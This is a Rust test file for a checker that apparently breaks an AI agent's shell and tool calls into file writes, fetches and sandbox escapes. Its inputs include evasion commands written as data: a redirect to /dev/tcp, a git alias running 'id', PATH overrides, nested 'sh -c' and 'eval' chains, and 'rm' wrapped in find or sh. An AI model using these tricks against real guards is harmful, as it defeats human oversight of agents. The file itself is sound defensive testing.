use serde_json::{Value, json};

use super::*;
use crate::call::ToolCall;
use crate::host::HostTable;
use crate::limits::{MAX_GONE, MAX_PLACES, MAX_WALKED_BYTES, MIN_DIRECTORIES};
use crate::place::Lexical;

fn place() -> Place<'static> {
    Place {
        cwd: Path::new("/project"),
        home: Some(Path::new("/home/user")),
        project: Some(Path::new("/project")),
        protected: &[],
        resolver: &Lexical,
    }
}

fn acts_of(tool: &str, arguments: Value) -> Vec<Act> {
    let call = ToolCall::new(tool, arguments).understand(HostTable::plain());
    acts(&call, &place(), ProgramTable::built_in(), Look::Plain)
}

/// The acts of a command in few words, consequences behind an arrow.
fn shown(command: &str) -> Vec<String> {
    let mut lines = Vec::new();
    for act in acts_of("Bash", json!({ "command": command })) {
        show(&act, "", &mut lines);
    }
    lines
}

fn show(act: &Act, front: &str, lines: &mut Vec<String>) {
    let text = match act {
        Act::File(FileUse { spots: None, access, .. }) => format!("{access:?} somewhere"),
        Act::File(FileUse { spots: Some(spots), access, .. }) => {
            let paths: Vec<&str> = spots.iter().map(|spot| spot.path.as_str()).collect();
            format!("{access:?} {}", paths.join(" "))
        }
        Act::Command(command) => command.shown(),
        other => other.shown(),
    };
    lines.push(format!("{front}{text}"));
    let Act::Command(command) = act else { return };
    for (at, consequence) in &command.consequences {
        let front = format!("{front}{at}> ");
        match consequence {
            Consequence::Escape(_) => lines.push(format!("{front}escape")),
            Consequence::Code(_) => lines.push(format!("{front}code")),
            Consequence::Acts(acts) => acts.iter().for_each(|act| show(act, &front, lines)),
        }
    }
}

fn check(command: &str, expected: &[&str]) {
    assert_eq!(shown(command), expected, "{command}");
}

#[test]
fn a_shell_call_is_its_commands_and_files() {
    // S3
    check("git log", &["git log"]);
    check("git log > out.txt", &["Write /project/out.txt", "git log"]);
    check("git log > /dev/null 2>&1", &["git log"]);
    check("git log < in.txt", &["Read /project/in.txt", "git log"]);
    check("git log > ../x", &["Write /x", "git log"]);
    check("git log > ~/x", &["Write /home/user/x", "git log"]);
    check("git log > \"$x\"", &["Write somewhere", "git log"]);
    check(
        "git log > /dev/tcp/a/80",
        &["what cannot be judged: it opens a connection through `/dev/tcp`", "git log"],
    );
}

#[test]
fn a_wrapper_leads_to_what_it_runs() {
    // S3
    check("env git log", &["env git log", "1> git log"]);
    check("sh -c 'git log; rm x'", &["sh -c git log; rm x", "2> git log", "2> rm x"]);
    check("find . -exec rm {} +", &["find . -exec rm {} +", "3> rm ./…"]);
    check(
        "timeout 5 env CI=1 git log",
        &["timeout 5 env CI=1 git log", "2> env CI=1 git log", "2> 2> git log"],
    );
    check("git -c 'alias.x=!id' x", &["git -c alias.x=!id x", "1> escape", "3> escape"]);
    check("python x.py", &["python x.py", "1> code"]);
    check("curl -o x https://a.b", &["curl -o x https://a.b", "1> Write /project/x"]);
    check("curl -O https://a.b", &["curl -O https://a.b", "1> Write /project/\u{fffd}"]);
}

#[test]
fn a_change_of_directory_leaves_relative_paths_open() {
    // S3
    check("cd /tmp; git log > x", &["cd /tmp", "Write somewhere", "git log"]);
    check("cd /tmp; git log > /x", &["cd /tmp", "Write /x", "git log"]);
    check("git log > x; cd /tmp", &["Write somewhere", "git log", "cd /tmp"]);
    check(
        "sh -c 'cd /tmp; git log > x'",
        &["sh -c cd /tmp; git log > x", "2> cd /tmp", "2> Write somewhere", "2> git log"],
    );
    check("git -C sub log --output=x", &["git -C sub log --output=x", "4> Write somewhere"]);
}

#[test]
fn setting_variables_matters_unless_they_are_harmless() {
    // S3
    check("CI=1 git log", &["CI=1 git log"]);
    check("PATH=/x git log", &["PATH=/x git log", "0> escape"]);
    check("x=1", &["x=1"]);
    check("x=1 git log", &["x=1 git log", "0> escape"]);
    check("X=1", &["X=1", "0> escape"]);
    check("path=1", &["path=1", "0> escape"]);
    check("https_proxy=1", &["https_proxy=1", "0> escape"]);
    check("for x in a; do git log; done", &["x=…", "git log"]);
    check("for PATH in a; do git log; done", &["PATH=…", "0> escape", "git log"]);
}

#[test]
fn a_directory_outside_the_project_is_not_entered() {
    // S3
    check("git -C sub log", &["git -C sub log"]);
    check("git -C . log", &["git -C . log"]);
    check("git -C /project/a/b log", &["git -C /project/a/b log"]);
    check("git -C .. log", &["git -C .. log", "1> escape"]);
    check("git -C /projectx log", &["git -C /projectx log", "1> escape"]);
    check("git -C \"$x\" log", &["git -C … log", "1> escape"]);
}

#[test]
fn calls_without_a_shell_are_files_addresses_or_the_tool() {
    // S3
    assert_eq!(acts_of("TodoWrite", json!({})), [Act::Tool]);
    assert_eq!(acts_of("Grep", json!({"pattern": "x"})), [Act::Tool]);
    assert_eq!(
        acts_of("WebFetch", json!({"url": "https://a.b"})),
        [Act::Fetch(Some("https://a.b".into()))]
    );
    assert_eq!(acts_of("WebFetch", json!({})), [Act::Fetch(None)]);
    let unreadable = acts_of("Bash", json!({}));
    assert!(matches!(unreadable.as_slice(), [Act::Unresolvable(_)]));
    let files = acts_of("Read", json!({"file_path": "a", "path": 5}));
    assert_eq!(files.len(), 2);
    assert!(matches!(&files[1], Act::File(FileUse { spots: None, .. })));
}

#[test]
fn words_that_are_run_as_they_are_need_no_shell() {
    // S3
    let lines = |words: Value| {
        let mut lines = Vec::new();
        for act in acts_of("shell", json!({ "command": words })) {
            show(&act, "", &mut lines);
        }
        lines
    };
    assert_eq!(lines(json!(["git", "log", "; rm x"])), ["git log ; rm x"]);
    assert_eq!(
        lines(json!(["bash", "-lc", "git log; rm x"])),
        ["bash -lc git log; rm x", "2> git log", "2> rm x"]
    );
    assert_eq!(acts_of("shell", json!({"command": []})), [Act::Tool]);
    assert_eq!(acts_of("Bash", json!({"command": " # nothing"})), [Act::Tool]);
}

#[test]
fn the_directory_a_call_asks_for_is_where_its_paths_start() {
    // S3
    let spot = |arguments: Value| match acts_of("Bash", arguments).first() {
        Some(Act::File(FileUse { spots: Some(spots), .. })) => {
            spots.iter().next().map(|spot| spot.path.clone())
        }
        _ => None,
    };
    let command = "git log > x";
    assert_eq!(spot(json!({"command": command})).as_deref(), Some("/project/x"));
    assert_eq!(spot(json!({"command": command, "workdir": "/tmp"})).as_deref(), Some("/tmp/x"));
    assert_eq!(
        spot(json!({"command": command, "workdir": "sub"})).as_deref(),
        Some("/project/sub/x")
    );
    assert_eq!(spot(json!({"command": command, "workdir": 5})), None);
}

#[test]
fn shells_in_shells_end_somewhere() {
    // S3, F4
    let mut command = "git log".to_owned();
    for _ in 0..20 {
        command = format!("sh -c {}", quote(&command));
        if command.len() > 8000 {
            break;
        }
    }
    let lines = shown(&command);
    assert!(lines.len() < 40, "{}", lines.len());
    let eval = format!("{}git log", "eval ".repeat(40));
    assert!(shown(&eval).last().is_some_and(|line| line.ends_with("escape")), "{:?}", shown(&eval));
    let env = format!("{}git log", "env ".repeat(40));
    assert!(shown(&env).last().is_some_and(|line| line.ends_with("escape")));
}

fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

#[test]
fn what_is_shown_is_short_and_safe() {
    // S3
    let long = acts_of("Bash", json!({"command": format!("git {}", "a".repeat(500))}));
    let text = long[0].shown();
    assert!(text.chars().count() < MAX_QUOTED_CHARS + 10, "{text}");
    assert!(text.ends_with("…`"), "{text}");
    let odd = acts_of("Read", json!({"file_path": "a\u{202e}b"}));
    assert_eq!(odd[0].shown(), "reading `a\\u{202e}b`");
    let lines = acts_of("Bash", json!({"command": "git commit -m 'a\nb'"}));
    assert_eq!(lines[0].shown(), "`git commit -m a b`");
    assert_eq!(Act::Tool.shown(), "the call");
    assert_eq!(Act::Fetch(None).shown(), "fetching an address that cannot be read");
}

/// The directories that the last command of a call may run in.
fn directories(command: &str) -> (Vec<PathBuf>, bool) {
    let call = ToolCall::new("Bash", json!({ "command": command })).understand(HostTable::plain());
    let acts = acts(&call, &place(), ProgramTable::built_in(), Look::Thorough);
    let acts = match acts.as_slice() {
        [Act::Unresolvable(_), Act::Pieces(pieces)] => pieces,
        acts => acts,
    };
    match acts.last() {
        Some(Act::Command(command)) => (command.directories.to_vec(), command.lost),
        other => panic!("no command: {other:?}"),
    }
}

#[test]
fn however_often_the_directory_is_changed_few_are_looked_at_and_the_last_among_them() {
    // S3, F4
    assert_eq!(directories("cd a; ls"), (vec!["/project".into(), "/project/a".into()], false));
    let (few, lost) = directories("cd a; cd b; cd /c; ls");
    assert!(few.contains(&"/c".into()) && few.contains(&"/project/a/b".into()) && !lost);
    for count in [20, 200, 600, 3000] {
        let steps: String = (0..count).map(|n| format!("cd /d{n}; ")).collect();
        let (found, lost) = directories(&format!("{steps}cd /last; ls"));
        let most = (MAX_PLACES / count).clamp(MIN_DIRECTORIES, MAX_GONE);
        assert!(found.len() <= most + 1, "{count}: {}", found.len());
        assert!(found.contains(&"/project".into()), "{count}");
        assert!(found.contains(&"/last".into()), "{count}");
        assert_eq!(lost, count > MAX_GONE, "{count}");
        let (found, lost) = directories(&format!("{}ls", "cd a; ".repeat(count)));
        assert!(found.len() <= most + 1 && lost, "{count}: {}", found.len());
        let longest = found.iter().map(|path| path.as_os_str().len()).max();
        assert!(longest <= Some(MAX_WALKED_BYTES), "{count}: {longest:?}");
    }
}
